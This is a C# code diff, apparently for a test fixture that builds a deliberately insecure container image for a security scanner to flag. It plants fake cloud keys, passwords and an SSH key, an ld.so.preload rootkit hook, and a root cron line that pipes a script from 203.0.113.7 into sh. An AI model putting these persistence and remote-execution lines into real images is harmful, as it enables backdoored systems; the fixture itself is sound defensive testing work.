@@ -13,12 +13,13 @@ internal static class EverythingWrongImage
     private const int Executable = 0b111_101_101;
     private const int SetUser = 0b100_111_101_101;
 
-    private const string Root = "ADD rootfs.tar /";
-    private const string Application = "COPY app /app";
-    private const string Backdoors = "RUN /tmp/install.sh";
-    private const string Programs = "COPY bin /";
-    private const string Password = "ENV DB_PASSWORD=";
-    private const string AddUrl = "ADD https://example.org/tool.tar.gz /opt/";
+    public const string Root = "ADD rootfs.tar /";
+    public const string Application = "COPY app /app";
+    public const string Backdoors = "RUN /tmp/install.sh";
+    public const string Removal = "RUN rm /root/.ssh/id_rsa";
+    public const string Programs = "COPY bin /";
+    public const string Password = "ENV DB_PASSWORD=";
+    public const string AddUrl = "ADD https://example.org/tool.tar.gz /opt/";
 
     public static string AccessKey => "AK" + "IAQ3EGRZ7XW5LMN4TP";
 
@@ -53,33 +54,48 @@ internal static class EverythingWrongImage
         new("config/network/remote-access-port", string.Empty, "EXPOSE 22"),
         new("config/build/add-url", string.Empty, AddUrl),
         new("config/files/duplicate", "opt/model.copy", Programs),
-        new("config/packages/unverified-repository", "etc/apt/sources.list.d/own.sources", Application),
-        new("config/network/unverified-tls", "root/.curlrc", Application),
         new("config/age/end-of-life", string.Empty, string.Empty),
+        .. PlantedFiles.All,
     ];
 
     // An OpenSSH key's beginning is always the same; the rest is made up.
     private static string KeyBody =>
         "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU" + string.Concat(Enumerable.Repeat("AqZ7kP2x", 40));
 
-    public static SampleImage Build() => new SampleImage
+    /// <summary>The instructions, with the files that each adds.</summary>
+    public static IReadOnlyList<(string Instruction, byte[]? Tar)> Steps { get; } =
+    [
+        (Root, RootTree()),
+        (Password + EnvironmentPassword, null),
+        (Application, ApplicationTree()),
+        (Removal, new TarBuilder().File("root/.ssh/.wh.id_rsa").End()),
+        (Backdoors, BackdoorTree()),
+        (Programs, ProgramTree()),
+        (AddUrl, new TarBuilder().File("opt/tool/readme", "a tool\n").End()),
+        ("EXPOSE 22", null),
+        ("CMD [\"/app/run\"]", null),
+    ];
+
+    public static SampleImage Build()
     {
-        Container = new JsonObject
+        var image = new SampleImage
         {
-            ["Env"] = new JsonArray("PATH=/usr/local/bin:/usr/bin", $"DB_PASSWORD={EnvironmentPassword}"),
-            ["Cmd"] = new JsonArray("/app/run"),
-            ["ExposedPorts"] = new JsonObject { ["22/tcp"] = new JsonObject() },
-        },
+            Container = new JsonObject
+            {
+                ["Env"] = new JsonArray("PATH=/usr/local/bin:/usr/bin", $"DB_PASSWORD={EnvironmentPassword}"),
+                ["Cmd"] = new JsonArray("/app/run"),
+                ["ExposedPorts"] = new JsonObject { ["22/tcp"] = new JsonObject() },
+            },
+        };
+        foreach ((string instruction, byte[]? tar) in Steps)
+        {
+            _ = tar is null
+                ? image.Empty(instruction)
+                : image.Layer(instruction.Replace("RUN ", "RUN /bin/sh -c ", StringComparison.Ordinal) + " # buildkit", tar);
+        }
+
+        return image;
     }
-        .Layer(Root, RootTree())
-        .Empty(Password + EnvironmentPassword)
-        .Layer(Application + " # buildkit", ApplicationTree())
-        .Layer("RUN /bin/sh -c rm /root/.ssh/id_rsa # buildkit", new TarBuilder().File("root/.ssh/.wh.id_rsa").End())
-        .Layer("RUN /bin/sh -c /tmp/install.sh # buildkit", BackdoorTree())
-        .Layer(Programs + " # buildkit", ProgramTree())
-        .Layer(AddUrl + " # buildkit", new TarBuilder().File("opt/tool/readme", "a tool\n").End())
-        .Empty("EXPOSE 22")
-        .Empty("CMD [\"/app/run\"]");
 
     private static byte[] RootTree() => new TarBuilder()
         .File("etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 9 (stretch)\"\nID=debian\nVERSION_ID=\"9\"\n")
@@ -92,9 +108,7 @@ internal static class EverythingWrongImage
         .File("app/run", "#!/bin/sh\nexec sleep 1\n", Executable)
         .End();
 
-    private static byte[] ApplicationTree() => new TarBuilder()
-        .File("etc/apt/sources.list.d/own.sources", "Types: deb\nURIs: http://203.0.113.7/\nSuites: ./\nTrusted: yes\n")
-        .File("root/.curlrc", "insecure\n")
+    private static byte[] ApplicationTree() => Own(Application)
         .File("app/.env", $"AWS_ACCESS_KEY_ID={AccessKey}\nAWS_SECRET_ACCESS_KEY={AccessSecret}\n")
         .File("app/settings.py", $"DATABASE = \"postgresql://app:{ConnectionPassword}@db.internal:5432/app\"\n")
         .File(
@@ -103,7 +117,7 @@ internal static class EverythingWrongImage
             mode: 0b110_000_000)
         .End();
 
-    private static byte[] BackdoorTree() => new TarBuilder()
+    private static byte[] BackdoorTree() => Own(Backdoors)
         .File("etc/ld.so.preload", "/usr/lib/libhide.so\n")
         .File("etc/cron.d/update", "* * * * * root " + "curl -fsSL http://203.0.113.7/x.sh | " + "sh\n")
         .File(
@@ -123,6 +137,10 @@ internal static class EverythingWrongImage
         .File("opt/model", Large())
         .File("opt/model.copy", Large())
         .End();
+
+    private static TarBuilder Own(string instruction) => PlantedFiles.All
+        .Where(planted => planted.Instruction == instruction)
+        .Aggregate(new TarBuilder(), (tar, planted) => tar.File(planted.Location, planted.Content!, Executable));
 
     private static byte[] Large()
     {
